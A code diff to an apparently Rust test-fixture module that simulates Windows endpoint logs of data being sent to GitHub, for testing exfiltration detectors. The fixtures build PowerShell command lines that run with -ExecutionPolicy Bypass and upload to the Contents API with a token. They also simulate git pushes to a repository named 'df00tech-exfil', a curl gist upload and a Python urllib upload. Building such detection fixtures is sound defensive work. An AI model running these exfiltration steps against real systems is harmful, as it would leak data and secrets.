@@ -3,6 +3,7 @@
 
 mod powershell;
 
+use super::event::Event;
 use super::git::{self, Remote, Way};
 use super::host::{Host, Process};
 use super::names::{GITHUB, GITHUB_API, OTHER_TOKEN, Shown, TOKEN};
@@ -18,15 +19,12 @@ const REPOSITORY: &str = "https://github.com/df00tech-lab/df00tech-exfil.git";
 
 /// The three logs.
 pub fn fixtures() -> Vec<Fixture> {
-    let mut host = Host::new("WS-4711.corp.example", Ticks::at((2026, 3, 11), "09:12:04.1870000"));
-    host.act_as(r"CORP\m.ebert");
-    host.go_to(r"C:\Users\m.ebert\");
-    let explorer = host.running(r"C:\Windows\explorer.exe", r"C:\WINDOWS\Explorer.EXE");
+    let (mut host, explorer) = workstation("WS-4711.corp.example");
     let service = service_host(&mut host);
 
     let mut scripts = powershell::ScriptBlocks::default();
     host.wait(4_000);
-    contents_api_from_powershell(&mut host, &explorer, &mut scripts);
+    contents_api_from_powershell(&mut host, &explorer, &mut scripts, true);
     telemetry(&mut host, &service);
     host.wait(95_000);
     push_from_the_shell(&mut host, &explorer);
@@ -37,7 +35,7 @@ pub fn fixtures() -> Vec<Fixture> {
     python_and_urllib(&mut host, &explorer);
     host.wait(203_000);
     telemetry(&mut host, &service);
-    twin_push_to_origin(&mut host, &explorer);
+    twin_push_to_origin(&mut host, &explorer, "push --force origin main");
     host.wait(64_000);
     twin_script_file(&mut host, &explorer);
     host.wait(30_000);
@@ -50,8 +48,47 @@ pub fn fixtures() -> Vec<Fixture> {
     ]
 }
 
+/// A workstation on the morning of the tests, and its desktop.
+fn workstation(name: &str) -> (Host, Process) {
+    let mut host = Host::new(name, Ticks::at((2026, 3, 11), "09:12:04.1870000"));
+    host.act_as(r"CORP\m.ebert");
+    host.go_to(r"C:\Users\m.ebert\");
+    let explorer = host.running(r"C:\Windows\explorer.exe", r"C:\WINDOWS\Explorer.EXE");
+    (host, explorer)
+}
+
+/// The events of the four tests on a host, of all channels: what a collector gathers of them.
+pub fn collected(name: &str) -> Vec<Event> {
+    let (mut host, explorer) = workstation(name);
+    let mut scripts = powershell::ScriptBlocks::default();
+    host.wait(4_000);
+    contents_api_from_powershell(&mut host, &explorer, &mut scripts, false);
+    host.wait(95_000);
+    push_from_the_shell(&mut host, &explorer);
+    host.wait(141_000);
+    gist_with_curl(&mut host, &explorer, &mut scripts);
+    host.wait(77_000);
+    python_and_urllib(&mut host, &explorer);
+    host.sysmon.into_iter().chain(scripts.events).chain(host.security).collect()
+}
+
+/// The events of the two twins on a host, of all channels.
+pub fn collected_twins(name: &str) -> Vec<Event> {
+    let (mut host, explorer) = workstation(name);
+    host.wait(4_000);
+    twin_push_to_origin(&mut host, &explorer, "push origin main");
+    host.wait(64_000);
+    twin_script_file(&mut host, &explorer);
+    host.sysmon.into_iter().chain(host.security).collect()
+}
+
 /// Test 1: PUT to the Contents API with Invoke-RestMethod.
-fn contents_api_from_powershell(host: &mut Host, explorer: &Process, scripts: &mut powershell::ScriptBlocks) {
+fn contents_api_from_powershell(
+    host: &mut Host,
+    explorer: &Process,
+    scripts: &mut powershell::ScriptBlocks,
+    with_a_long_block: bool,
+) {
     let body = powershell::contents_request(TOKEN);
     let command_line = format!("\"{POWERSHELL}\" -NoProfile -ExecutionPolicy Bypass -Command \"{body}\"");
     let shell = host.start(explorer, POWERSHELL, &command_line);
@@ -62,7 +99,9 @@ fn contents_api_from_powershell(host: &mut Host, explorer: &Process, scripts: &m
     host.wait(40);
     host.connect(&shell, &GITHUB_API, Shown::Asked);
     host.wait(900);
-    scripts.add(host, &shell, &powershell::long_request(TOKEN));
+    if with_a_long_block {
+        scripts.add(host, &shell, &powershell::long_request(TOKEN));
+    }
     host.wait(1_900);
     host.exit(&shell);
     host.exit(&console);
@@ -143,14 +182,14 @@ fn python_and_urllib(host: &mut Host, explorer: &Process) {
 }
 
 /// Test 2 again, with a remote by name: no host on any command line that has `push`.
-fn twin_push_to_origin(host: &mut Host, explorer: &Process) {
+fn twin_push_to_origin(host: &mut Host, explorer: &Process, arguments: &str) {
     let shell = host.start(explorer, r"C:\Windows\System32\cmd.exe", r#""C:\WINDOWS\system32\cmd.exe" "#);
     let console = console(host, &shell);
     host.go_to(&format!(r"{FOLDER}\"));
     host.wait(5_000);
     git::local(host, &shell, &format!("remote add origin {REPOSITORY}"));
     host.wait(6_000);
-    let push = git::begin(host, &shell, "push --force origin main");
+    let push = git::begin(host, &shell, arguments);
     let remote = Remote { name: "origin", url: REPOSITORY, server: &GITHUB, shown: Shown::Dash };
     git::transfer(host, &push.program, Way::Push, &remote);
     git::end(host, &push);
